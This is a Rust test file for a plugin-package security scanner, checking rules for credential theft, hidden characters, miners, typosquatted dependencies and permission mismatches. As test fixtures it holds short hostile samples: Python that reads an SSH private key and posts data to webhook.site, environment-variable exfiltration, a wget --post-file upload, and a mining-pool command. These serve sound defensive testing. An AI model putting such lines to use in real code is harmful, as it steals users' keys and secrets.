//! What rules find, in packages of a few files.

use std::collections::BTreeSet;
use std::fs;

use plugbay_domain::Manifest;
use tempfile::TempDir;

use super::*;
use crate::rule::Language;

/// A scan of files without a manifest.
fn of_files(files: &[(&str, &[u8])]) -> Scan {
    judged(files, None, &Policy::default())
}

fn judged(files: &[(&str, &[u8])], declared: Option<&Declared>, policy: &Policy) -> Scan {
    let limits = Limits { time: std::time::Duration::from_hours(1), ..Limits::default() };
    within(&limits, files, declared, policy)
}

fn within(limits: &Limits, files: &[(&str, &[u8])], declared: Option<&Declared>, policy: &Policy) -> Scan {
    let folder = TempDir::new().unwrap();
    for (path, bytes) in files {
        let path = folder.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    scan_folder(folder.path(), declared, policy, &Advisories::default(), limits).unwrap()
}

fn names(scan: &Scan) -> BTreeSet<&str> {
    scan.hits.iter().map(|hit| hit.rule.as_str()).collect()
}

fn file_of(language: Language) -> &'static str {
    match language {
        Language::Python => "main.py",
        Language::Shell => "run.sh",
        Language::JavaScript => "main.js",
        Language::Text => "notes.txt",
    }
}

#[test]
fn every_rule_hits_its_hit_and_nothing_else() {
    let mut wrong = Vec::new();
    for rule in rules() {
        let path = file_of(rule.language);
        let hit = of_files(&[(path, rule.hit.as_bytes())]);
        let expected = std::iter::once(&rule.id).chain(&rule.also).map(String::as_str).collect::<BTreeSet<_>>();
        if names(&hit) != expected {
            wrong.push(format!("{}: {:?}: {}", rule.id, hit.hits, rule.hit));
        }
        let harmless = of_files(&[(path, rule.no_hit.as_bytes())]);
        if harmless.verdict > Verdict::Notes || names(&harmless).contains(rule.id.as_str()) {
            wrong.push(format!("{}: {:?}", rule.id, harmless.hits));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn two_stages_in_the_files_of_the_author_are_malicious() {
    let collect: &[u8] = b"import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
    let send: &[u8] = b"import requests\ndef send(x):\n    requests.post('https://webhook.site/x', data=x)\n";
    assert_eq!(of_files(&[("main.py", collect)]).verdict, Verdict::Suspicious);
    let scan = of_files(&[("main.py", collect), ("lib/send.py", send)]);
    assert_eq!(scan.verdict, Verdict::Malicious);
    assert!(scan.hits.iter().any(|hit| hit.path == "lib/send.py" && hit.rule == "drop-host"), "{scan:?}");
    // Files of a dependency have nothing to do with each other.
    let vendored = of_files(&[("vendor/a/x.py", collect), ("vendor/a/y.py", send)]);
    assert!(vendored.verdict <= Verdict::Suspicious, "{vendored:?}");
    assert_eq!(of_files(&[("main.py", b"import json\nprint(json.dumps({}))\n")]).verdict, Verdict::Clean);
}

#[test]
fn what_cannot_be_read_is_not_clean() {
    assert_eq!(of_files(&[("main.py", b"x = (\n")]).verdict, Verdict::Notes);
    let deep = format!("x = {}1{}\n", "(".repeat(5_000), ")".repeat(5_000));
    let scan = of_files(&[("main.py", deep.as_bytes())]);
    assert_eq!((scan.verdict, scan.is_complete), (Verdict::Suspicious, false), "{scan:?}");
}

#[test]
fn a_file_that_takes_all_room_hides_nothing_after_it() {
    let few = Limits { result_bytes: 120_000, ..Limits::default() };
    let of_few = |files: &[(&str, &[u8])]| within(&few, files, None, &Policy::default());
    let filling = format!("import os\n{}", "os.system('aaaaaaaaaaaaaaaa')\n".repeat(500));
    let theft: &[u8] = b"import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n";
    let scan = of_few(&[("a.py", filling.as_bytes()), ("b.py", filling.as_bytes()), ("main.py", theft)]);
    assert!(names(&scan).contains("environment-flow") && names(&scan).contains("too-costly"), "{:?}", names(&scan));
    assert_eq!((scan.verdict, scan.is_complete), (Verdict::Malicious, false));
    // What takes all room together is suspicious, too, though no file takes too much.
    let part = format!("import os\n{}", "os.system('aaaaaaaaaaaaaaaa')\n".repeat(60));
    let parts = ["a.py", "b.py", "c.py", "d.py", "e.py", "f.py", "g.py", "h.py"].map(|name| (name, part.as_bytes()));
    assert!(of_few(&parts[..1]).is_complete);
    let scan = of_few(&parts);
    assert_eq!((scan.verdict, scan.is_complete), (Verdict::Suspicious, false), "{:?}", names(&scan));
}

const MANIFEST: &str = "name: demo\nversion: 1.0.0\nmain: main.py\n";

fn declared(manifest: &str) -> Declared {
    Declared::of(&Manifest::parse(manifest.as_bytes()).unwrap_or_else(|error| panic!("{manifest}: {error}")))
}

/// Code, the line of the use, and the permission that it needs.
const USES: [(&str, u32, &str); 24] = [
    ("import socket\nsocket.socket()", 1, "network_access"),
    ("import json\nimport urllib.request", 2, "network_access"),
    ("from http.client import HTTPSConnection", 1, "network_access"),
    ("import asyncio\nasyncio.open_connection('a', 1)", 2, "network_access"),
    ("r = __import__('requ' + 'ests')\nr.get('x')", 1, "network_access"),
    (
        "class P:\n    def execute(self, c):\n        return self.host.http.fetch('https://a.example')",
        3,
        "network_access",
    ),
    (
        "class P:\n    async def execute(self, c):\n        h = self.host\n        await h.http.fetch('https://a.example')",
        4,
        "network_access",
    ),
    ("class P:\n    def execute(this, c):\n        return this.host.db.query('main', 'SELECT 1')", 3, "database_read"),
    (
        "class P:\n    def execute(self, c):\n        db = self.host.db\n        return db.query('main', 'SELECT 1')",
        4,
        "database_read",
    ),
    ("class P:\n    def execute(self, c):\n        self.host.db.execute('main', 'DELETE FROM x')", 3, "database_write"),
    ("class P:\n    def execute(self, c):\n        self.host.db.transaction('main', [])", 3, "database_write"),
    ("def save(host):\n    host.db.execute('main', 'x')", 2, "database_write"),
    ("class P:\n    def execute(self, c):\n        self.host.api.request('crm', 'GET', '/x')", 3, "api_access"),
    (
        "class P:\n    def execute(self, c):\n        getattr(self.host, 'api').request('crm', 'GET', '/x')",
        3,
        "api_access",
    ),
    ("class P:\n    def execute(self, c):\n        self.host.chat.send('hello')", 3, "chat_access"),
    ("class P:\n    def execute(self, c):\n        return [m for m in self.host.chat.history()]", 3, "chat_access"),
    ("class P:\n    def execute(self, c):\n        f = self.host.chat.send\n        f('x')", 4, "chat_access"),
    ("class P:\n    def execute(self, c):\n        self.host.plugins.execute('other', {})", 3, "plugins"),
    ("class P:\n    def execute(self, c):\n        self.host.plugins.list()", 3, "admin_access"),
    ("open('/mnt/docs/a.txt').read()", 1, "filesystem_read"),
    ("import os\nos.listdir('/mnt/docs')", 2, "filesystem_read"),
    ("open('/mnt/' + 'out/a.txt', 'w').write('x')", 1, "filesystem_write"),
    ("with open(f'/mnt/out/{__name__}', mode='a') as f:\n    f.write('x')", 1, "filesystem_write"),
    ("import os\nos.remove('/mnt/out/x')", 2, "filesystem_write"),
];

#[test]
fn what_is_used_and_not_declared_is_named() {
    for (code, line, permission) in USES {
        let scan = judged(
            &[("plugin.yaml", MANIFEST.as_bytes()), ("main.py", code.as_bytes())],
            Some(&declared(MANIFEST)),
            &Policy::default(),
        );
        let hits: Vec<&Hit> = scan.hits.iter().filter(|hit| hit.rule == "used-not-declared").collect();
        let named = |hit: &&&Hit| hit.what.ends_with(&format!("needs `{permission}`"));
        let hit = hits.iter().find(named).unwrap_or_else(|| panic!("{permission}: {code}\n{scan:?}"));
        assert_eq!((hit.path.as_str(), hit.place.unwrap().line), ("main.py", line), "{code}");
        assert_eq!(hit.verdict, Verdict::Notes);
        let asking = match permission {
            "plugins" => format!("{MANIFEST}requires: {{ other: '>=1' }}\n"),
            _ => format!("{MANIFEST}permissions: [{permission}]\n"),
        };
        let scan = judged(&[("main.py", code.as_bytes())], Some(&declared(&asking)), &Policy::default());
        assert!(!scan.hits.iter().any(|hit| named(&&hit)), "{code}: {scan:?}");
    }
}

#[test]
fn what_is_declared_and_not_used_is_named() {
    let harmless = [
        "class P:\n    def execute(self, c):\n        return {'text': 'hello'}",
        "import json, math\nclass P:\n    def execute(self, c):\n        return json.dumps(math.pi)",
        "class P:\n    def execute(self, c):\n        self.host.kv.set('a', 1)\n        return self.host.kv.get('a')",
    ];
    let permissions = [
        "network_access",
        "database_read",
        "database_write",
        "api_access",
        "chat_access",
        "admin_access",
        "filesystem_read",
        "filesystem_write",
    ];
    let mut told = 0;
    for permission in permissions {
        for (number, code) in harmless.iter().enumerate() {
            let key = if number == 1 { "optional_permissions" } else { "permissions" };
            let manifest = format!("# {permission} is asked for\n{MANIFEST}{key}:\n  - {permission}\n");
            let files: [(&str, &[u8]); 2] = [("plugin.yaml", manifest.as_bytes()), ("main.py", code.as_bytes())];
            let scan = judged(&files, Some(&declared(&manifest)), &Policy::default());
            let hit = scan
                .hits
                .iter()
                .find(|hit| hit.rule == "declared-not-used")
                .unwrap_or_else(|| panic!("{permission}: {code}\n{scan:?}"));
            let place = hit.place.unwrap();
            assert_eq!((hit.path.as_str(), place.line, place.column), ("plugin.yaml", 6, 5), "{manifest}");
            assert!(hit.what.contains(permission) && scan.verdict == Verdict::Notes);
            told += 1;
        }
    }
    assert!(told >= 20);
    // Where names are made while the code runs, nothing can be said.
    let manifest = format!("{MANIFEST}permissions: [network_access]\n");
    let scan = judged(&[("main.py", b"f = globals()['x']\n")], Some(&declared(&manifest)), &Policy::default());
    assert!(!names(&scan).contains("declared-not-used"), "{scan:?}");
}

#[test]
fn operators_decide_what_may_be_imported() {
    let code: &[u8] = b"import os, numpy.linalg\nfrom . import helper\nimport lib, yaml\nfrom os import path\n__import__('cty' + 'pes')\n";
    let files: [(&str, &[u8]); 3] =
        [("main.py", code), ("lib.py", b""), ("vendor/yaml/__init__.py", b"import _yaml\n")];
    let run = |allowed: &[&str], denied: &[&str]| {
        let owned = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
        let scan = judged(&files, None, &Policy { allowed_imports: owned(allowed), denied_imports: owned(denied) });
        let against = scan.hits.iter().filter(|hit| hit.rule.contains("import"));
        assert!(against.clone().all(|hit| hit.verdict == Verdict::Suspicious && hit.place.is_some()));
        against.map(|hit| format!("{} {}", hit.rule, hit.what)).collect::<BTreeSet<_>>().into_iter().collect::<Vec<_>>()
    };
    assert!(run(&[], &[]).is_empty());
    assert_eq!(run(&[], &["os.path", "ctypes"]), ["denied-import ctypes", "denied-import os.path"]);
    assert_eq!(run(&["numpy"], &[]), ["import-not-allowed _yaml"]);
    assert_eq!(run(&["pandas"], &[]), ["import-not-allowed _yaml", "import-not-allowed numpy.linalg"]);
}

#[test]
fn characters_that_hide_code_are_found() {
    let spaces = " ".repeat(200);
    for (path, text, rule) in [
        ("main.py", format!("x = 1;{spaces}import os"), "out-of-sight"),
        ("main.py", "ok = 1 # \u{202e}txet".to_owned(), "hidden-characters"),
        ("main.py", "us\u{200b}er = 1 if True else 'x'".to_owned(), "hidden-characters"),
        ("main.py", "ex\u{1d41e}c('1')".to_owned(), "hidden-characters"),
        ("main.py", "p\u{0430}ssword = 1\n".to_owned(), "hidden-characters"),
        ("run.sh", "echo \u{2066}x".to_owned(), "hidden-characters"),
        ("README.md", "read \u{e0041}this".to_owned(), "hidden-characters"),
    ] {
        let scan = of_files(&[(path, text.as_bytes())]);
        assert!(names(&scan).contains(rule), "{text:?}: {scan:?}");
    }
    for (path, text) in [
        ("main.py", "name = 'Ünïcode, кириллица, ελληνικά'\n".to_owned()),
        ("main.py", format!("x = 1{spaces}# far away\n")),
        ("README.md", "\u{feff}# Titel für alle \u{200f}\n".to_owned()),
    ] {
        assert_eq!(of_files(&[(path, text.as_bytes())]).verdict, Verdict::Clean, "{text:?}");
    }
}

#[test]
fn files_that_nobody_can_read_are_told() {
    let scan = of_files(&[
        ("lib.pyc", b"\xa7\r\r\n\0\0"),
        ("__pycache__/main.pyc", b"\xa7\r\r\n\0\0"),
        ("tool.exe", b"MZ\x90\0"),
        ("data.zip", b"PK\x03\x04\0"),
        ("vendor/a/data.zip", b"PK\x03\x04\0"),
        ("picture.png", b"\x89PNG\xff"),
    ]);
    let told: Vec<(&str, Verdict)> = scan.hits.iter().map(|hit| (hit.path.as_str(), hit.verdict)).collect();
    let expected = [
        ("lib.pyc", Verdict::Suspicious),
        ("__pycache__/main.pyc", Verdict::Notes),
        ("data.zip", Verdict::Notes),
        ("tool.exe", Verdict::Notes),
    ];
    assert_eq!(told, expected);
    let random: &[u8] = b"password = \"9fK2mQ7xZp4Lw8Rt1Vb6Ns3Y\"\nghp_0123456789abcdefghijklmnopqrstuvwxyz\n";
    let secrets = of_files(&[("settings.ini", random), ("vendor/a/b.txt", random)]);
    assert_eq!(names(&secrets), BTreeSet::from(["random-value", "secret-in-file"]));
    assert!(secrets.hits.iter().all(|hit| !hit.what.contains("Ns3Y") && !hit.what.contains("xyz")), "{secrets:?}");
}

#[test]
fn the_rules_for_texts_hold_for_programs_and_scripts() {
    let drop: &[u8] = b"#!/bin/sh\necho x > /tmp/y; wget -q --post-file=/tmp/y https://webhook.site/x\n";
    assert!(names(&of_files(&[("start", drop)])).contains("drop-host"));
    let miner = "run('/tmp/x -o strat' + 'um+tcp://pool.example:3333')";
    assert!(names(&of_files(&[("main.js", miner.as_bytes())])).contains("miner"));
    let mut program = b"\x7fELF\x02\x01\x01\0".to_vec();
    program.extend_from_slice(b"\0\0https://discord.com/api/webhooks/1/x\0");
    let scan = of_files(&[("main", &program)]);
    assert!(names(&scan).contains("drop-host") && names(&scan).contains("unreadable"), "{scan:?}");
}

#[test]
fn names_and_holes_of_dependencies_are_found() {
    let lock = serde_json::json!({ "python": "3.11", "platform": "linux", "packages": [
        { "name": "reqeusts", "version": "1.0", "tags": "py3-none-any", "sha256": format!("sha256:{}", "0".repeat(64)) },
    ]});
    let scan = of_files(&[("vendor.lock", format!("{lock:#}").as_bytes())]);
    assert_eq!(names(&scan), BTreeSet::from(["name-near-popular"]), "{scan:?}");
    assert!(scan.hits[0].place.is_some_and(|place| place.line > 1) && scan.hits[0].what.contains("`requests`"));
    let manifest = format!("{MANIFEST}dependencies: ['nunpy>=1', requests]\n");
    let scan = judged(&[("plugin.yaml", manifest.as_bytes())], Some(&declared(&manifest)), &Policy::default());
    assert!(scan.hits.iter().any(|hit| hit.rule == "name-near-popular" && hit.place.unwrap().line == 4), "{scan:?}");
    assert_eq!(of_files(&[("vendor.lock", b"{")]).verdict, Verdict::Notes);
}
